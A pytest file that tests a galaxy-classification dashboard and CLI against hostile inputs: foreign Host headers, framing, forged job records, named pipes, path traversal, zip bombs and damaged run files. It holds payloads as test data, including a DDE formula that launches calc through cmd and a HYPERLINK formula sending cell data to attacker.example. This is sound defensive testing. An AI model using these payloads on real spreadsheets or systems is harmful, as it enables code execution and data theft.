"""Hostile inputs, round two (issue 22, part A): records are claims, files are opened as files.

Each test is one row of the audit's table, named after it (``test_rowNN_...``):

- the served dashboard answers only to its own host names, and may not be framed (rows 1, 17);
- a job record names a pid only if that process's command line is the job's own (row 2);
- named pipes and other non-regular files in place of dataset, run, source and image files are
  refused before they are opened: no command or page hangs (row 3);
- ``import_report.json`` cannot widen a source's confinement (row 4);
- size caps on ``model.keras``'s members, checked in the zip directory (row 8);
- damaged ``predictions.csv`` / ``history.csv`` / ``model.keras`` are listed, not raised (row 10);
- CSV exports are inert in spreadsheets (row 11);
- ``checkpoint/state.json`` names files inside its own folder only (row 15);
- long names are shortened in messages (row 16).

Every command runs in a subprocess under a timeout, so a hang fails the test instead of the suite.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from core import jobs
from tests.test_browser import _free_port, wait_until_healthy

ROOT = Path(__file__).resolve().parent.parent
JOB_ID = "20260101-000000-cafe"


def _clean_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GALAXY_MORPH_")}
    return {**env, "TF_CPP_MIN_LOG_LEVEL": "2", **extra}


def _core(*args: str, env: dict[str, str], timeout: float = 180) -> subprocess.CompletedProcess[str]:
    """``python -m core ARGS`` in a subprocess; a hang past ``timeout`` fails the test."""
    try:
        return subprocess.run([sys.executable, "-m", "core", *args], cwd=ROOT, env=env, capture_output=True,
                              text=True, timeout=timeout)
    except subprocess.TimeoutExpired as exc:
        pytest.fail(f"python -m core {' '.join(args)} hung for {timeout} s: {exc.stderr!r:.2000}")


# --------------------------------------------------------------------------- rows 1 and 17: the server


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """The real dashboard (``python -m ui.serve``, as ``make run`` starts it) on 127.0.0.1; its port."""
    root = tmp_path_factory.mktemp("served")
    (root / "none.toml").write_text("# defaults only\n")
    port = _free_port()
    env = _clean_env(GALAXY_MORPH_DATA_DIR=str(root / "data"), GALAXY_MORPH_RUNS_DIR=str(root / "runs"),
                     GALAXY_MORPH_CONFIG=str(root / "none.toml"))
    proc = subprocess.Popen(
        [sys.executable, "-m", "ui.serve", "--server.address", "127.0.0.1", "--server.port", str(port),
         "--server.headless", "true", "--browser.gatherUsageStats", "false"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )
    wait_until_healthy(proc, f"http://127.0.0.1:{port}", timeout=120)
    yield port
    proc.terminate()
    proc.wait(timeout=20)


def _raw(port: int, request: str) -> tuple[int, dict[str, str]]:
    """Send ``request`` as written to the server; the status code and (lower-case) headers of the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        sock.sendall(request.encode("latin-1"))
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
    headers: dict[str, str] = {}
    for line in head[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = (headers[name.strip().lower()] + ", " if name.strip().lower() in headers
                                         else "") + value.strip()
    return int(head[0].split()[1]), headers


def _get(port: int, host: str, path: str = "/") -> tuple[int, dict[str, str]]:
    return _raw(port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")


def _websocket(port: int, host: str) -> tuple[int, dict[str, str]]:
    """The WebSocket handshake a page served under ``host`` would make (its Origin is that host)."""
    return _raw(port, (
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Protocol: streamlit\r\n\r\n"
    ))


FOREIGN_HOSTS = ["attacker.example", "attacker.example:{port}", "127.0.0.1.attacker.example:{port}",
                 "localhost.attacker.example", "", "x" * 5000]


def test_row01_foreign_host_header_refused(served: int) -> None:
    """DNS rebinding: a page at attacker.example, resolved to 127.0.0.1, may neither read the dashboard
    nor open its WebSocket (which imports folders and starts or stops jobs)."""
    for host in (h.format(port=served) for h in FOREIGN_HOSTS):
        status, _ = _get(served, host)
        assert status == 403, f"GET / with Host {host[:40]!r} answered {status}"
        status, _ = _get(served, host, "/_stcore/health")
        assert status == 403, f"GET /_stcore/health with Host {host[:40]!r} answered {status}"
        status, headers = _websocket(served, host)
        assert status == 403 and "sec-websocket-accept" not in headers, f"WebSocket with Host {host[:40]!r}: {status}"
    # The control: the names it was started for are served, page and WebSocket alike.
    for host in (f"127.0.0.1:{served}", f"localhost:{served}", "127.0.0.1", f"LOCALHOST:{served}"):
        assert _get(served, host)[0] == 200, host
        assert _websocket(served, host)[0] == 101, host


def test_row17_dashboard_refuses_to_be_framed(served: int) -> None:
    """Clickjacking: no other site may show Stop / Build / Import in a frame."""
    for host, path, status in ((f"127.0.0.1:{served}", "/", 200), (f"localhost:{served}", "/_stcore/health", 200),
                               ("attacker.example", "/", 403)):
        got, headers = _get(served, host, path)
        assert got == status
        assert headers.get("x-frame-options") == "DENY", headers
        assert "frame-ancestors 'none'" in headers.get("content-security-policy", ""), headers


# --------------------------------------------------------------------------- row 2: job records


def _start_time(pid: int) -> int:
    """Field 22 of /proc/PID/stat (anyone may read it), as the crafted record copies it."""
    return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[19])


def _record(folder: Path, job_id: str, pid: int) -> dict[str, object]:
    return {
        "id": job_id, "label": "train lenet5", "pid": pid, "started": time.time(),
        "command": [sys.executable, "-m", "core", "train", "--dataset", "data/datasets/x"],
        "log_file": str(folder / f"{job_id}.log"), "exit_file": str(folder / f"{job_id}.exit.json"),
        "progress_file": str(folder / f"{job_id}.progress.jsonl"), "proc_start": _start_time(pid),
    }


@pytest.fixture
def jobs_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("GALAXY_MORPH_DATA_DIR", str(tmp_path / "data"))
    folder = tmp_path / "data" / "jobs"
    folder.mkdir(parents=True)
    return folder


def _wrapper_lookalike(tmp_path: Path, record: dict[str, object]) -> subprocess.Popen[bytes]:
    """A harmless process whose command line is exactly what start_job runs for ``record``:
    ``python -m core.jobs EXIT_FILE GRACE -- python -m core train ...`` (its ``core.jobs`` sleeps)."""
    package = tmp_path / "lookalike" / "core"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "jobs.py").write_text("import time\ntime.sleep(300)\n")
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    return subprocess.Popen([sys.executable, "-m", "core.jobs", str(record["exit_file"]), "30", "--",
                             *record["command"]], cwd=package.parent, env=env)  # type: ignore[misc]


def test_row02_job_record_naming_a_foreign_process_is_not_trusted(jobs_folder: Path, tmp_path: Path) -> None:
    """A record copying a live process's real start time from /proc/PID/stat: the process is not the
    job's own `python -m core` with this job id, so the record is untrusted and nothing is signalled."""
    sleeper = subprocess.Popen(["sleep", "300"])
    other_job = _record(jobs_folder, "20260101-000000-0ther", os.getpid())
    lookalike = _wrapper_lookalike(tmp_path, other_job)  # a real job's process, but of another job id
    try:
        for victim in (sleeper, lookalike):
            record = _record(jobs_folder, JOB_ID, victim.pid)
            (jobs_folder / f"{JOB_ID}.json").write_text(json.dumps(record))
            job = jobs.load_job(JOB_ID)
            assert jobs.job_status(job) == jobs.UNKNOWN
            problem = jobs.job_problem(job)
            assert problem is not None and f"pid {victim.pid} is another process" in problem, problem
            assert jobs.stop_job(JOB_ID) is False
            assert victim.poll() is None, "the process a crafted record named was signalled"

        # The control: the same record for the lookalike's own job id is trusted and stops it.
        record = _record(jobs_folder, "20260101-000000-0ther", lookalike.pid)
        (jobs_folder / "20260101-000000-0ther.json").write_text(json.dumps(record))
        job = jobs.load_job("20260101-000000-0ther")
        assert jobs.job_problem(job) is None and jobs.job_status(job) == jobs.RUNNING
        assert jobs.stop_job(job) is True
        assert lookalike.wait(timeout=30) == -signal.SIGTERM
    finally:
        for proc in (sleeper, lookalike):
            if proc.poll() is None:
                proc.kill()
            proc.wait()


# --------------------------------------------------------------------------- row 3: named pipes


from tests.test_hostile_records import _run_folder, copied  # noqa: E402,F401 - the shared fixture


def _fifo(path: Path) -> Path:
    """Put a named pipe where ``path`` was: opening it for reading waits for a writer that never comes."""
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    return path


def _release(paths: list[Path]) -> None:
    """Let a reader stuck on one of these pipes go (it sees end of file), so a failing test ends."""
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass


def _env(copied: dict[str, Path]) -> dict[str, str]:
    (copied["root"] / "none.toml").write_text("# defaults only\n")
    return _clean_env(STREAMLIT_CLIENT_SHOW_ERROR_DETAILS="full", GALAXY_MORPH_DATA_DIR=str(copied["data"]), GALAXY_MORPH_RUNS_DIR=str(copied["runs"]),
                      GALAXY_MORPH_CONFIG=str(copied["root"] / "none.toml"))


FIFO_REASON = "it is a named pipe (FIFO), not a regular file"


@pytest.mark.parametrize("name", ["manifest.json", "x.npy", "meta.parquet"])
def test_row03_fifo_in_a_dataset_is_refused_by_train(name: str, copied: dict[str, Path]) -> None:
    pipe = _fifo(copied["dataset"] / name)
    try:
        done = _core("train", "--dataset", str(copied["dataset"]), "--models", "lenet5", "--epochs", "1",
                     env=_env(copied), timeout=120)
    finally:
        _release([pipe])
    assert done.returncode == 2, done.stderr[-2000:]
    assert f"error: {pipe} is damaged: {FIFO_REASON}" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("name", ["metrics.json", "config.json"])
def test_row03_fifo_in_a_run_is_refused_by_compare(name: str, copied: dict[str, Path]) -> None:
    pipe = _fifo(_run_folder(copied) / name)
    try:
        done = _core("compare", "--out", str(copied["root"] / "report"), env=_env(copied), timeout=120)
    finally:
        _release([pipe])
    assert done.returncode == 2, done.stderr[-2000:]
    assert f"error: {pipe} is damaged: {FIFO_REASON}" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


def test_row03_fifo_image_and_records_in_a_source_do_not_hang_build(copied: dict[str, Path]) -> None:
    """A shared tar archive can carry pipes: in place of an image, the metrics cache and an import report."""
    source = copied["data"] / "sample"
    catalogue = (source / "catalog.csv").read_text().splitlines()
    image = source / catalogue[1].split(",")[[c.strip() for c in catalogue[0].split(",")].index("file")]
    pipes = [_fifo(image), _fifo(source / ".cache" / "metrics.parquet"), _fifo(source / "import_report.json")]
    out = copied["root"] / "built"
    try:
        done = _core("build", "--source", str(source), "--out", str(out), "--size", "32", "--min-quality", "0",
                     "--min-size", "0", "--catalog", "all", "--jobs", "1", env=_env(copied), timeout=240)
    finally:
        _release(pipes)
    assert done.returncode == 0, done.stderr[-3000:]
    import pandas as pd

    images = pd.read_parquet(out / "images.parquet")
    row = images[images["path"] == str(image)]
    assert row["reason"].tolist() == ["unreadable"]
    assert FIFO_REASON in row["read_error"].iloc[0], row["read_error"].tolist()


APP_PROBE = """
import json, sys
from streamlit.testing.v1 import AppTest
at = AppTest.from_file(sys.argv[1], default_timeout=120)
at.run()
if sys.argv[2] != "home":
    at.switch_page(f"pages/{sys.argv[2]}.py")
    at.run()
print(json.dumps({"exceptions": [e.value for e in at.exception],
                  "problems": [list(map(str, d.value["problem"])) for d in at.dataframe if "problem" in d.value.columns]}))
"""


def _page(copied: dict[str, Path], page: str, *, timeout: float = 240) -> dict[str, list]:
    """Open a dashboard page (AppTest) in a subprocess, so a page that hangs fails the test."""
    try:
        done = subprocess.run([sys.executable, "-c", APP_PROBE, str(ROOT / "app.py"), page], cwd=ROOT,
                              env=_env(copied), capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the {page} page hung for {timeout} s")
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_row03_fifo_in_a_dataset_and_a_run_does_not_hang_the_home_page(copied: dict[str, Path]) -> None:
    pipes = [_fifo(copied["dataset"] / "manifest.json"), _fifo(_run_folder(copied) / "metrics.json")]
    try:
        seen = _page(copied, "home")
    finally:
        _release(pipes)
    assert seen["exceptions"] == []
    problems = {p for table in seen["problems"] for p in table}  # a damaged dataset's runs list it too
    for pipe in pipes:
        assert any(p.startswith(f"{pipe} is damaged: {FIFO_REASON}") for p in problems), (pipe, problems)
    assert all(f"is damaged: {FIFO_REASON}" in p for p in problems), problems


# --------------------------------------------------------------------------- rows 8 and 10: run files


def _pad_model_config(model: Path, *, padding: int) -> None:
    """Rewrite ``model.keras`` with ``padding`` bytes of whitespace in its config.json: still valid JSON,
    a few kB compressed, ``padding`` bytes unpacked."""
    import zipfile

    with zipfile.ZipFile(model) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members["config.json"] += b" " * padding
    with zipfile.ZipFile(model.with_suffix(".tmp"), "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    model.unlink()  # a hard link to the session's model: never write through it
    model.with_suffix(".tmp").rename(model)


def test_row08_model_config_padded_past_its_cap_is_refused_from_the_zip_directory(copied: dict[str, Path]) -> None:
    from core.learn.models import load_run_model
    from core.runs import RunDamagedError, load_run

    run = load_run(_run_folder(copied, "lenet5"))
    _pad_model_config(run.path / "model.keras", padding=40 * 2**20)
    assert (run.path / "model.keras").stat().st_size < 2**20  # small on disk, 40 MB unpacked
    with pytest.raises(RunDamagedError, match=r"model\.keras is damaged: its member 'config\.json' unpacks to "
                                              r"41,9\d\d,\d\d\d bytes, more than the 16 MB allowed"):
        load_run_model(run)
    seen = _page(copied, "classify")
    assert seen["exceptions"] == []
    assert any("model.keras is damaged: its member 'config.json'" in p for table in seen["problems"] for p in table)


def _truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


# (case, file, damage of its bytes, what the message says after "is damaged: ")
RUN_FILE_CASES = [
    ("predictions empty", "predictions.csv", lambda d: b"", "it is not a readable CSV table (EmptyDataError)"),
    ("predictions not UTF-8", "predictions.csv", lambda d: b"\xff\xfe\x00n\x00a" * 50, "it is not a readable CSV"),
    ("predictions ragged", "predictions.csv", lambda d: d + b"1,2,3,4,5,6,7,8,9,10,11,12\n", "ParserError"),
    ("predictions without probabilities", "predictions.csv", lambda d: b"name,true,pred\nNGC 1,E,E\n",
     "it lacks the columns"),
    ("predictions with an unknown class", "predictions.csv", lambda d: d.replace(b",E,", b",Q,", 1),
     "its 'true' and 'pred' columns must hold the run's classes"),
    ("history empty", "history.csv", lambda d: b"", "it is not a readable CSV table (EmptyDataError)"),
    ("history without val_accuracy", "history.csv", lambda d: b"epoch,loss\n1,0.5\n", "it lacks the columns"),
    ("history accuracy as text", "history.csv", lambda d: d.replace(b"\n1,", b"\none,", 1),
     "its columns must hold numbers"),
]


@pytest.mark.parametrize(("case", "name", "damage", "says"), RUN_FILE_CASES, ids=[c[0] for c in RUN_FILE_CASES])
def test_row10_damaged_run_files_are_one_message_naming_the_file(
    case: str, name: str, damage: object, says: str, copied: dict[str, Path]
) -> None:
    from core.runs import load_run, split_damaged

    runs = [load_run(p.parent) for p in sorted(copied["runs"].glob("*/config.json"))]
    file = _run_folder(copied, "alexnet") / name
    file.write_bytes(damage(file.read_bytes()))  # type: ignore[operator]
    usable, damaged = split_damaged(runs)
    assert sorted(r.model_name for r in usable) == ["lenet5", "resnet18"]
    assert len(damaged) == 1 and damaged[0][0] == file.parent
    assert damaged[0][1].startswith(f"{file} is damaged: ") and says in damaged[0][1], damaged


def test_row10_compare_lists_a_run_with_damaged_files_and_compares_the_rest(copied: dict[str, Path]) -> None:
    predictions = _run_folder(copied, "alexnet") / "predictions.csv"
    predictions.write_bytes(b"")
    out = copied["root"] / "report"
    done = _core("compare", "--out", str(out), env=_env(copied), timeout=180)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-3000:]
    lines = [line for line in done.stderr.splitlines() if line.startswith("damaged, left out: ")]
    assert lines == [f"damaged, left out: {predictions} is damaged: it is not a readable CSV table (EmptyDataError). "
                     f"Delete the run folder {predictions.parent} and train that model again."]
    import pandas as pd

    assert sorted(pd.read_csv(out / "runs.csv")["model"]) == ["lenet5", "resnet18"]


def test_row10_pages_list_runs_with_damaged_files(copied: dict[str, Path]) -> None:
    predictions = _run_folder(copied, "alexnet") / "predictions.csv"
    predictions.write_bytes(b"")
    model = _run_folder(copied, "resnet18") / "model.keras"
    data = model.read_bytes()
    model.unlink()
    model.write_bytes(_truncated(data))
    seen = _page(copied, "comparison")
    assert seen["exceptions"] == []
    problems = [p for table in seen["problems"] for p in table]
    assert problems == [f"{predictions} is damaged: it is not a readable CSV table (EmptyDataError). "
                        f"Delete the run folder {predictions.parent} and train that model again."]
    seen = _page(copied, "classify")
    assert seen["exceptions"] == []
    problems = [p for table in seen["problems"] for p in table]
    assert len(problems) == 1 and problems[0].startswith(f"{model} is damaged: it is not a Keras model archive"), problems


# --------------------------------------------------------------------------- row 4: import_report.json


FITS = ROOT / "tests" / "data" / "ned" / "img" / "NGC_4486_I_IIIaF_dss2.fits.gz"


def test_row04_import_report_cannot_widen_the_source_confinement(tmp_path: Path) -> None:
    """A shared source folder whose import_report.json says {"images": "/"}: its catalogue may not
    name images anywhere on the machine; a real import places its images under the source."""
    import shutil

    from core.acquire.catalogue import load_source
    from core.prepare.quality import compute_metrics

    elsewhere = tmp_path / "home" / "pictures"
    elsewhere.mkdir(parents=True)
    shutil.copy(FITS, elsewhere / "private.fits.gz")
    crafted = tmp_path / "data" / "imported" / "shared"
    crafted.mkdir(parents=True)
    (crafted / "import_report.json").write_text(json.dumps({"catalog": "x", "images": "/", "matched_rows": 1}))
    (crafted / "catalog.csv").write_text(f"name,classification,file\nNGC 1,E,{elsewhere / 'private.fits.gz'}\n")
    table = load_source(crafted).table
    assert table["path"].tolist() == [None]
    assert table["image_reason"][0].startswith(f"file outside the source folder {crafted.resolve()} (refused)")
    assert compute_metrics(crafted, n_jobs=1).empty  # nothing outside the source is read

    # A real import of that folder: its images now live under the source, and still load.
    csv = tmp_path / "mine.csv"
    csv.write_text("name,classification\nprivate,E\n")
    out = tmp_path / "data" / "imported" / "mine"
    done = _core("import", "--catalog", str(csv), "--images", str(elsewhere), "--out", str(out),
                 env=_clean_env(GALAXY_MORPH_CONFIG=os.environ["GALAXY_MORPH_CONFIG"]), timeout=120)
    assert done.returncode == 0, done.stderr
    paths = load_source(out).table["path"].tolist()
    assert paths == [str(out.resolve() / "images" / "private.fits.gz")]
    assert Path(paths[0]).read_bytes() == FITS.read_bytes()


# --------------------------------------------------------------------------- row 11: CSV exports


FORMULA_MODEL = "=cmd|' /C calc'!A0"
FORMULA_CLASS = '@HYPERLINK("http://attacker.example/?"&A1)'


def _formula_names(copied: dict[str, Path]) -> None:
    """Spreadsheet formulas as a model name (config.json), a class (metrics.json) and a dataset folder name."""
    for config_file in copied["runs"].glob("*/config.json"):
        config = json.loads(config_file.read_text())
        if config["model"] == "lenet5":
            config["model"] = FORMULA_MODEL
        config["dataset"]["path"] = str(Path(config["dataset"]["path"]).parent / "-2+3\tx")
        config_file.write_text(json.dumps(config))
        metrics_file = config_file.parent / "metrics.json"
        metrics = json.loads(metrics_file.read_text())
        first = next(iter(metrics["per_class"]))
        metrics["per_class"] = {FORMULA_CLASS if c == first else c: v for c, v in metrics["per_class"].items()}
        metrics_file.write_text(json.dumps(metrics))


def _dangerous_cells(text: str) -> list[str]:
    import csv
    import io

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    # A number such as -0.17 (a difference of accuracies) is a number to a spreadsheet too, not a formula.
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(cell)]


def test_row11_csv_exports_are_inert_in_a_spreadsheet(copied: dict[str, Path]) -> None:
    _formula_names(copied)
    out = copied["root"] / "report"
    done = _core("compare", "--out", str(out), "--pool-datasets", env=_env(copied), timeout=180)
    assert done.returncode == 0, done.stderr[-3000:]
    for name in ("summary.csv", "per_class.csv", "runs.csv", "tests.csv", "mcnemar.csv"):
        text = (out / name).read_text()
        assert _dangerous_cells(text) == [], name
    summary = (out / "summary.csv").read_text()
    assert f"\"'{FORMULA_MODEL}\"" in summary or f"'{FORMULA_MODEL}" in summary
    assert "'" + FORMULA_CLASS.replace('"', '""') in (out / "per_class.csv").read_text()
    assert "'-2+3\tx-" in (out / "runs.csv").read_text()
    # Numbers stay numbers: a negative difference is not text.
    import pandas as pd

    assert pd.api.types.is_float_dtype(pd.read_csv(out / "summary.csv")["accuracy_mean"])


# --------------------------------------------------------------------------- row 15: checkpoint state


def _state_cases(outside_model: Path) -> list[tuple[str, object, str]]:
    return [
        ("model_file climbs out", {"model_file": "../model.keras"}, "'model_file' must be the name of a file in"),
        ("model_file absolute", {"model_file": str(outside_model)}, "'model_file' must be the name of a file in"),
        ("model_file through a subfolder", {"model_file": "epoch-0001.keras/../../model.keras"},
         "'model_file' must be the name of a file in"),
        ("epoch as text", {"model_file": "epoch-0001.keras", "epoch": "1"}, "'epoch' must be a whole number"),
        ("state truncated", '{"epoch": 1, "model_fi', "it is not readable JSON"),
        ("state a list", "[1, 2]", "it holds a JSON list, not an object"),
    ]


def test_row15_checkpoint_state_names_only_files_in_its_own_folder(copied: dict[str, Path]) -> None:
    import shutil

    from core import runs
    from core.prepare.dataset import load_dataset
    from core.learn.training import TrainingError, default_config, train

    dataset = load_dataset(copied["dataset"])
    config = default_config("lenet5", seed=0, epochs=1, batch_size=16, patience=0)
    outside_model = _run_folder(copied, "lenet5") / "model.keras"
    for case, state, says in _state_cases(outside_model):
        run_dir = runs.create_run(copied["runs"], model="lenet5", seed=0, params=config.to_dict(),
                                  dataset_path=dataset.path, dataset_hash=dataset.content_hash,
                                  dataset_manifest=dataset.manifest)
        ckpt = run_dir / "checkpoint"
        ckpt.mkdir()
        shutil.copy(outside_model, ckpt / "epoch-0001.keras")
        shutil.copy(outside_model, run_dir / "model.keras")
        base = {"epoch": 1, "best_val_loss": 1.0, "best_epoch": 1, "wait": 0, "history": [], "train_seconds": 1.0,
                "stopped_early": False}
        (ckpt / "state.json").write_text(state if isinstance(state, str) else json.dumps({**base, **state}))
        with pytest.raises(TrainingError) as raised:
            train(dataset, config, run_dir=run_dir, resume=True)
        message = str(raised.value)
        assert message.startswith(f"checkpoint state {ckpt / 'state.json'} is damaged: ") and says in message, (case, message)
        assert message.endswith("Train the run again without --resume."), message
        recorded = runs.read_config(run_dir)
        assert recorded["status"] == "failed" and recorded["error"] == f"TrainingError: {message}"


# --------------------------------------------------------------------------- row 16: long names


def test_row16_long_names_are_shortened_in_messages(tmp_path: Path) -> None:
    """A catalogue name of a megabyte: warnings and summaries quote its first 200 characters and say
    how much was cut, instead of the whole name (a 50 MB name made 104 MB of stderr)."""
    import shutil

    name = "N" * 1_000_000
    images = tmp_path / "images"
    images.mkdir()
    shutil.copy(FITS, images / "NGC_2.fits.gz")
    csv = tmp_path / "cat.csv"
    csv.write_text(f"name,classification,file\n{name},E,missing.fits\nNGC 2,E,\n{name}x,E,\n")
    done = _core("import", "--catalog", str(csv), "--images", str(images), "--out", str(tmp_path / "data" / "src"),
                 env=_clean_env(GALAXY_MORPH_CONFIG=os.environ["GALAXY_MORPH_CONFIG"]), timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert len(done.stderr) + len(done.stdout) < 20_000, len(done.stderr)
    assert "N" * 200 + "… (999,800 more characters)" in done.stderr
    assert "N" * 201 not in done.stderr and "Traceback" not in done.stderr


JOB_PROBE = """
import json, sys
from pathlib import Path
from core import jobs
from core.io import read_jsonl
from core.progress import read_progress
listed = [j.id for j in jobs.list_jobs()]
job = jobs.Job(id="x", label="x", command=[sys.executable, "-m", "core", "sample"], pid=2, started=0.0,
               log_file=Path(sys.argv[1]) / "x.log", exit_file=Path(sys.argv[1]) / "x.exit.json",
               record_file=Path(sys.argv[1]) / "x.json", proc_start=0)
print(json.dumps({"listed": listed, "tail": jobs.tail_log(job), "exit": jobs.job_exit(job),
                  "events": read_jsonl(Path(sys.argv[1]) / "x.progress.jsonl"),
                  "progress": read_progress(Path(sys.argv[1]) / "x.progress.jsonl")}))
"""


def test_row03_fifo_job_records_and_logs_do_not_hang(jobs_folder: Path) -> None:
    """The Training page lists jobs and tails their logs: pipes as a record, a log, an exit record
    and a progress log are skipped, not waited on."""
    pipes = [_fifo(jobs_folder / f"{JOB_ID}.json"), _fifo(jobs_folder / "x.log"), _fifo(jobs_folder / "x.exit.json"),
             _fifo(jobs_folder / "x.progress.jsonl")]
    env = _clean_env(GALAXY_MORPH_DATA_DIR=str(jobs_folder.parent), GALAXY_MORPH_CONFIG=os.environ["GALAXY_MORPH_CONFIG"])
    try:
        done = subprocess.run([sys.executable, "-c", JOB_PROBE, str(jobs_folder)], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("reading job records, logs or progress from named pipes hung")
    finally:
        _release(pipes)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout) == {"listed": [], "tail": "", "exit": None, "events": [], "progress": None}
